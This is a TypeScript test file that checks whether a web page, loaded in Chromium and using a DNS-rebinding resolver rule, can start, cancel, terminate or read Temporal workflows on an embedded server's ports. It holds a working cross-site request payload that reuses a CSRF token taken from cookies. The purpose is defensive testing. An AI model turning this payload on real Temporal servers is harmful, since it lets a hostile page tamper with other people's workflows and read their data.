import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { Client, Connection } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { isServing } from '../../src/embedded/frontend.js';
import { holdPort, portOf } from '../../src/embedded/ports.js';
import { Browser, CHROMIUM, type Tab } from '../support/browser.js';
import { freePorts } from '../support/free-ports.js';
import { until } from '../support/until.js';
import { type Member, TestDataDir, temporalProgram } from './processes-of-test.js';

const CAN_RUN = CHROMIUM !== undefined && existsSync('/proc/net/tcp');
if (!CAN_RUN) process.stderr.write('no Chromium (CHROMIUM_PATH): web pages are not tried on the embedded server\n');

const SECRET = 'prompts-nobody-may-read';

/** Every name leads here, as those do that a page brings (DNS rebinding). */
const REBOUND = '--host-resolver-rules=MAP *.test 127.0.0.1';

/** TCP ports and hosts that a process listens on. */
function listening(pid: number): { readonly host: string; readonly port: number }[] {
  const sockets = new Set(
    readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
      const inode = /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1];
      return inode === undefined ? [] : [inode];
    }),
  );
  return readFileSync('/proc/net/tcp', 'utf8')
    .split('\n')
    .flatMap((line) => {
      const [, local = '', , state, , , , , , inode = ''] = line.trim().split(/\s+/);
      if (state !== '0A' || !sockets.has(inode)) return [];
      const [address = '', port = ''] = local.split(':');
      const host = Buffer.from(address, 'hex').reverse().join('.');
      return [{ host, port: Number.parseInt(port, 16) }];
    });
}

/** What a page does to a port: as scripts may anywhere, and what it could read if it had the port's own origin. */
const ATTACK = `async (base) => {
  const api = base + '/api/v1/namespaces/default/workflows';
  const read = [];
  const send = (path, body, more) => fetch(api + path, { method: 'POST', body: JSON.stringify(body), ...more })
    .then((answer) => answer.text()).then((text) => read.push(text)).catch(() => undefined);
  const get = (url, more) => fetch(url, more).then((answer) => answer.text()).then((text) => read.push(text)).catch(() => undefined);
  await get(base + '/');
  let token;
  // A page that could not be loaded has no cookies.
  try { token = /_csrf=([^;]*)/.exec(document.cookie)?.[1]; } catch {}
  const ways = [{ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }, { headers: { 'content-type': 'text/plain' } }];
  if (token !== undefined) ways.push({ headers: { 'x-csrf-token': token } });
  for (const way of ways) {
    await send('/started-by-a-page', { workflowType: { name: 'any' }, taskQueue: { name: 'any' } }, way);
    await send('/to-cancel/cancel', { reason: 'a page' }, way);
    await send('/to-terminate/terminate', { reason: 'a page' }, way);
  }
  for (const more of [{}, { mode: 'no-cors' }]) {
    await get(api, more);
    await get(base + '/metrics', more);
  }
  return read.join('\\n');
}`;

describe.skipIf(!CAN_RUN)('a web page in Chromium', () => {
  let dir: TestDataDir;
  let member: Member;
  let browser: Browser;
  let tab: Tab;
  let page: Server;
  let pageUrl: string;

  beforeAll(async () => {
    dir = new TestDataDir(await temporalProgram());
    member = await dir.join();
    browser = await Browser.start(CHROMIUM ?? '', [REBOUND]);
    tab = await browser.tab();
    page = await holdPort(
      createServer((_, answer) => void answer.setHeader('content-type', 'text/html').end('<title>evil</title>')),
      undefined,
    );
    pageUrl = `http://evil.test:${portOf(page)}/`;
  });
  afterAll(async () => {
    page?.close();
    await browser?.close();
    await dir?.remove();
  });

  /** Attacks ports from a page elsewhere and, by a name that leads there, from their own origin. Returns all that was read. */
  async function attack(targets: readonly { readonly host: string; readonly port: number }[]): Promise<string> {
    const read: unknown[] = [];
    for (const { host, port } of targets) {
      await tab.open(pageUrl, `document.title === 'evil'`);
      read.push(await tab.value(`(${ATTACK})('http://${host}:${port}')`));
      await tab.open(`http://rebound.test:${port}/`, `document.readyState === 'complete'`);
      read.push(await tab.value(`(${ATTACK})('http://rebound.test:${port}')`));
    }
    return read.join('\n');
  }

  async function withVictims(address: string, body: (client: Client) => Promise<void>): Promise<void> {
    const connection = await Connection.connect({ address });
    try {
      const client = new Client({ connection });
      for (const workflowId of ['to-cancel', 'to-terminate']) {
        await client.workflow.start('nobodyRunsThis', { workflowId, taskQueue: SECRET });
      }
      await body(client);
    } finally {
      await connection.close();
    }
  }

  const standing = async (client: Client, id: string): Promise<string> => {
    const history = await client.workflow.getHandle(id).fetchHistory();
    return (history.events ?? []).map(({ eventType }) => String(eventType)).join();
  };

  test('cannot start, cancel, terminate or read a run on any port of the embedded server or its keeper', async () => {
    const { address } = await member.joined();
    await withVictims(address, async (client) => {
      const before = [await standing(client, 'to-cancel'), await standing(client, 'to-terminate')];
      const targets = [...listening(dir.server), ...listening(dir.keeper)];
      // Frontend, three services behind it, HTTP API, metrics and UI; the keeper's door and the gate.
      expect(targets.length).toBeGreaterThanOrEqual(9);
      const read = await attack(targets);
      expect(read).not.toContain(SECRET);
      expect(read).not.toContain('to-cancel');
      expect([await standing(client, 'to-cancel'), await standing(client, 'to-terminate')]).toEqual(before);
      await expect(client.workflow.getHandle('started-by-a-page').describe()).rejects.toThrow();
    });
  });

  test('the link to the Web UI shows the runs', async () => {
    const { uiUrl } = await member.joined();
    await tab.open(`${uiUrl}/namespaces/default/workflows`, `document.body?.innerText.includes('to-terminate')`);
  });

  test('a run can be terminated by a person in the Web UI, whose requests come from its own page', async () => {
    const { uiUrl, address } = await member.joined();
    await tab.open(`${uiUrl}/namespaces/default/workflows`, `document.readyState === 'complete'`);
    const read = await tab.value(`(${ATTACK})('${uiUrl}')`);
    expect(read).toContain(SECRET);
    const connection = await Connection.connect({ address });
    const { status } = await new Client({ connection }).workflow.getHandle('to-terminate').describe();
    await connection.close();
    expect(status.name).toBe('TERMINATED');
  });

  test('the same page does all of it to a development server as it comes', async () => {
    const [port = 0, uiPort = 0, httpPort = 0] = await freePorts(3);
    const ports = ['--port', port, '--ui-port', uiPort, '--http-port', httpPort].map(String);
    const server = spawn(await temporalProgram(), ['server', 'start-dev', '--ip', '127.0.0.1', ...ports], {
      stdio: 'ignore',
    });
    try {
      await until('the server serves', () => isServing(port));
      await withVictims(`127.0.0.1:${port}`, async (client) => {
        const read = await attack([httpPort, uiPort].map((at) => ({ host: '127.0.0.1', port: at })));
        expect(read).toContain(SECRET);
        expect((await client.workflow.getHandle('started-by-a-page').describe()).status.name).toBe('RUNNING');
        expect((await client.workflow.getHandle('to-terminate').describe()).status.name).toBe('TERMINATED');
      });
    } finally {
      server.kill('SIGKILL');
      await once(server, 'exit');
    }
  });
});
